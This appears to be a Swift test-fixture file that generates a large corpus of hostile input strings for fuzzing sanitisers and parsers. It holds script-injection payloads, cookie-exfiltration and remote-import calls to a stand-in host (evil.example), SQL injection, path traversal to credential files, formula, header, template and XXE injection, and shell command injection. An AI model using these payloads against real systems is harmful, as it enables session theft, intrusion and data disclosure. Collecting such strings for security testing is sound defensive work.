// SPDX-License-Identifier: Apache-2.0
// Copyright (c) the Duplex authors

extension HostileTexts {
    /// More than a thousand, each once: calls in all kinds of markup, contexts and codings, and orders to terminals, databases,
    /// file systems, tables, and parsers of heads, JSON and archives.
    package static let many: [String] = {
        var seen: Set<String> = []
        let texts = [
            all, elements, breakouts, handlers, addresses, styles, codings, templates, controls, sequences, invisible,
            queries,
            paths, formulas, heads, structures,
        ]
        return texts.flatMap(\.self).filter { seen.insert($0).inserted }
    }()

    /// Each of the ones with each of the others.
    private static func pairs(_ ones: [String], _ others: [String], _ join: (String, String) -> String) -> [String] {
        ones.flatMap { one in others.map { join(one, $0) } }
    }

    /// What shows that a script has run, with and without the signs that filters look for.
    private static let calls = [
        "alert(1)", "alert`1`", "top['al'+'ert'](1)", "self[/al/.source+/ert/.source](1)", "eval(atob('YWxlcnQoMSk='))",
        "import('//evil.example/x.js')", "fetch('//evil.example/?'+document.cookie)", "location='//evil.example/'",
        "new Function('alert(1)')()", "document.write('<img src=//evil.example/x>')",
    ]

    // MARK: Markup

    private static let elements = pairs(
        [
            "<script>@</script>", "<script/src=data:,@></script>", "<img src=x onerror=@>", "<img/src=x/onerror=@//",
            "<svg/onload=@>", "<svg><animate onbegin=@ attributeName=x>",
            "<svg><a xlink:href=javascript:@><text y=20>x",
            "<svg><use href='data:image/svg+xml,<svg id=x onload=@>#x'>", "<svg><foreignObject><img src=x onerror=@>",
            "<body onpageshow=@>", "<iframe srcdoc='<script>@</script>'>", "<iframe src='javascript:@'>",
            "<object data='javascript:@'>", "<embed src='javascript:@'>", "<audio src onerror=@>",
            "<video><source onerror=@>", "<details open ontoggle=@>", "<input autofocus onfocus=@>",
            "<select autofocus onfocus=@>", "<marquee onstart=@>", "<form><button formaction=javascript:@>x",
            "<math><maction actiontype=statusline xlink:href=javascript:@>x", "<style onload=@></style>",
            "<template shadowrootmode=open><script>@</script></template>",
            "<noscript><p title='</noscript><img src=x onerror=@>'>",
            "<math><mtext><table><mglyph><style><img src=x onerror=@>",
            "<x contenteditable onblur=@ autofocus tabindex=1>",
        ],
        calls
    ) { $0.replacing("@", with: $1) }

    private static let breakouts = pairs(
        [
            "\"", "'", ">", "\">", "'>", "`", "</script>", "</style>", "</title>", "</textarea>", "</option></select>",
            "-->",
            "]]>", "*/", "\\\"", "\\'", "\\\\\">", "\u{2028}", "${", "{{", "</noscript>", "?>", "</xmp>",
        ],
        [
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", ";alert(1);//", "-alert(1)-",
            "<svg onload=alert(1)>",
        ]
    ) { $0 + $1 }

    private static let handlers = pairs(
        ["\" @=alert(1) x=\"", "' @='alert(1)", "` @=alert(1) ", "x\n@=alert(1) y", "\"/@=\"alert(1)\"/"],
        [
            "onmouseover", "onfocus", "onclick", "onerror", "onload", "onanimationend", "ontransitionend",
            "onpointerenter",
            "onwheel", "oncopy", "oninput", "onscroll", "onbeforetoggle", "oncontentvisibilityautostatechange",
        ]
    ) { $0.replacing("@", with: $1) }

    private static let addresses = pairs(
        [
            "javascript:@", "JaVaScRiPt:@", "java\tscript:@", "java\nscript:@", "java\rscript:@", "\u{1}javascript:@",
            " javascript:@", "javascript://%0a@", "javascript:/*--></title></style></script>*/@", "vbscript:@",
            "data:text/html,<script>@</script>", "data:image/svg+xml,<svg onload=@>", "blob:null/@",
            "view-source:javascript:@",
            "&#106;avascript:@", "&#x6A;avascript&colon;@", "feed:javascript:@", "jar:javascript:@!/",
        ],
        ["alert(1)", "alert`1`", "fetch('//evil.example/')"]
    ) { $0.replacing("@", with: $1) }

    private static let styles = pairs(
        [
            "<style>@</style>", "\" style=\"@", "</style><style>@", "<link rel=stylesheet href='data:text/css,@'>",
            "*{@}",
        ],
        [
            "@import '//evil.example/x.css';", "*{background:url(//evil.example/x)}", "width:expression(alert(1))",
            "behavior:url(x.htc)", "-moz-binding:url(//evil.example/x)", "position:fixed;inset:0;z-index:9999",
            "content:url(javascript:alert(1))", "@font-face{font-family:x;src:url(//evil.example/f)}",
        ]
    ) { $0.replacing("@", with: $1) }

    // MARK: Codings

    private static let coders: [@Sendable (String) -> String] = [
        { $0.utf8.map { "%" + hex(UInt32($0), 2) }.joined() },
        { $0.utf8.map { "%25" + hex(UInt32($0), 2) }.joined() },
        { $0.unicodeScalars.map { "&#\($0.value);" }.joined() },
        { $0.unicodeScalars.map { "&#x\(hex($0.value, 1));" }.joined() },
        { $0.unicodeScalars.map { "&#0000\($0.value)" }.joined() },
        { $0.unicodeScalars.map { "\\u" + hex($0.value, 4) }.joined() },
        { $0.unicodeScalars.map { "\\x" + hex($0.value, 2) }.joined() },
        { $0.unicodeScalars.map { "\\u{\(hex($0.value, 1))}" }.joined() },
        { $0.unicodeScalars.map { "\\" + hex($0.value, 6) }.joined() },
        { $0.replacing("<", with: "+ADw-").replacing(">", with: "+AD4-") },
        { $0.replacing("<", with: "%c0%bc").replacing(">", with: "%c0%be") },
        { $0.replacing("<", with: "\u{FF1C}").replacing(">", with: "\u{FF1E}") },
        { $0.replacing("<", with: "\u{2039}").replacing(">", with: "\u{203A}") },
        { $0.replacing("<", with: "<\u{0}").replacing("(", with: "\u{0}(") },
        { String($0.flatMap { [$0, "\u{200B}"] }) },
        { String(String.UnicodeScalarView($0.unicodeScalars.compactMap { Unicode.Scalar(0xE0000 + $0.value) })) },
    ]

    private static let codings = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)",
    ].flatMap { text in coders.map { $0(text) } }

    private static func hex(_ number: UInt32, _ digits: Int) -> String {
        let text = String(number, radix: 16)
        return String(repeating: "0", count: max(0, digits - text.count)) + text
    }

    private static let templates = pairs(
        [
            "{{@}}", "${@}", "#{@}", "<%= @ %>", "{%@%}", "[[@]]", "$(@)", "`@`", "%{@}",
            "${jndi:ldap://evil.example/@}",
        ],
        ["7*7", "constructor.constructor('alert(1)')()", "alert(1)", "''.__class__", "T(java.lang.Runtime)", "id"]
    ) { $0.replacing("@", with: $1) }

    // MARK: Terminals

    private static let controls = (Array(0x00...0x1F) + Array(0x7F...0x9F))
        .compactMap { Unicode.Scalar($0 as UInt32) }.map { "a\($0)b" }

    private static let sequences =
        pairs(["\u{1B}]@\u{7}", "\u{1B}]@\u{1B}\\", "\u{9D}@\u{9C}", "\u{1B}]@"], operatingSystemCommands) {
            $0.replacing("@", with: $1)
        }
        + pairs(["\u{1B}[", "\u{9B}"], sequenceEnds) { $0 + $1 + "x" }
        + pairs(["\u{1B}P", "\u{90}", "\u{1B}_", "\u{1B}^", "\u{1B}X"], ["$q\"p", "+q544e", "q#0;2;0;0;0", "G a=T"]) {
            "\($0)\($1)\u{1B}\\"
        }
        + ["c", "7", "8", "D", "E", "M", "H", "#8", "(0", " F", "=", ">", "N", "O", "Z", "%G"].map { "\u{1B}\($0)x" }

    private static let operatingSystemCommands = [
        "0;title", "1;icon", "2;window", "4;0;?", "7;file://evil.example/", "8;;javascript:alert(1)", "9;note", "10;?",
        "50;?", "52;c;eA==", "52;c;?", "104", "133;A", "777;notify;a;b", "1337;File=inline=1:eA==",
    ]

    private static let sequenceEnds = [
        "31m", "0;1;5;8m", "38;5;300m", "2J", "3J", "H", "999;999H", "6n", "c", ">c", "21t", "8;1;1t", "?25l", "?1049h",
        "5i",
        "1;2r", "20h", "99999999999C", "b", "s", "u", "?2004h", "!p",
    ]

    private static let invisible = pairs(
        (Array(0x200B...0x200F) + Array(0x2028...0x202E) + Array(0x2060...0x206F) + [
            0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180E, 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xE0001,
            0xE0041,
        ]).compactMap { Unicode.Scalar($0 as UInt32) }.map { String($0) },
        ["a@b", "@fdp.exe"]
    ) { $1.replacing("@", with: $0) }

    // MARK: Databases, file systems, tables

    private static let queries = pairs(
        ["'@", "\"@", "`@", "]@", "1@", "')@", "%'@"],
        [
            " OR '1'='1", "; DROP TABLE people; --", " UNION SELECT sql FROM sqlite_master --",
            "; ATTACH '/tmp/x' AS y; --",
            "; PRAGMA writable_schema=1; --", " AND load_extension('x') --", "||(SELECT randomblob(1e9))||'",
            "/**/OR/**/1",
            "; VACUUM INTO 'x'; --",
        ]
    ) { $0.replacing("@", with: $1) }

    private static let paths = pairs(
        [
            "../", "..\\", "..%2f", "%2e%2e/", "..%252f", "....//", "..;/", "%c0%ae%c0%ae/", "/..//../", "~/",
            "file:///", "//?/C:/",
        ],
        ["etc/passwd", "proc/self/environ", ".ssh/id_rsa", "etc/passwd%00.png", "CON"]
    ) { $0 + $1 }

    private static let formulas = pairs(
        ["=", "+", "-", "@", "\t=", "\r=", ";=", ",="],
        [
            "cmd|' /C calc'!A0", "HYPERLINK(\"//evil.example/\"&A1)", "IMPORTXML(\"//evil.example/\",A1)", "1+1",
            "DDE(\"a\";\"b\";\"c\")",
        ]
    ) { $0 + $1 }

    // MARK: Heads and structures

    private static let heads = pairs(
        ["\r\n", "\n", "\r", "%0d%0a", "\u{2028}", "\u{85}", "\\r\\n", "\u{560D}\u{560A}"],
        [
            "Set-Cookie: a=b", "Location: //evil.example/", "\r\n<script>alert(1)</script>",
            "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
        ]
    ) { "x\($0)\($1)" }

    private static let structures = [
        "{\"__proto__\":{\"polluted\":1}}", "{\"constructor\":{\"prototype\":{\"polluted\":1}}}", "{\"a\":1,\"a\":2}",
        "{\"a\":",
        "[1,]", "{'a':1}", "NaN", "-Infinity", "1e999", "00", "\"\\ud800\"", "\"\\u0000\"", "\u{FEFF}{}", "{}{}",
        "[[[[[[[[[[[[[[[[",
        String(repeating: "[", count: 2_000), String(repeating: "{\"a\":", count: 500),
        "{\"toString\":1,\"valueOf\":2}",
        "{\"log\":{\"entries\":\"none\"}}", "{\"log\":null}", "{\"log\":{\"entries\":[{}]}}",
        "{\"<img src=x onerror=alert(1)>\":1}",
        "{\"\\u003cscript\\u003ealert(1)\":\"\\u001b[2J\"}", "[\"\\u202e\",\"\\u0007\"]", "9007199254740993",
        "%s%s%n%n", "%x%x%x",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "<!--#exec cmd='id'-->",
        "(){ :;}; id", "; id", "| id", "$(id)", "`id`", "&& id", "\u{1F600}\u{200D}\u{1F680}",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}",
        "", " ", "null", "undefined", "hasOwnProperty", "__defineGetter__", "then", "\u{FFFD}", "\u{10FFFF}",
    ]
}
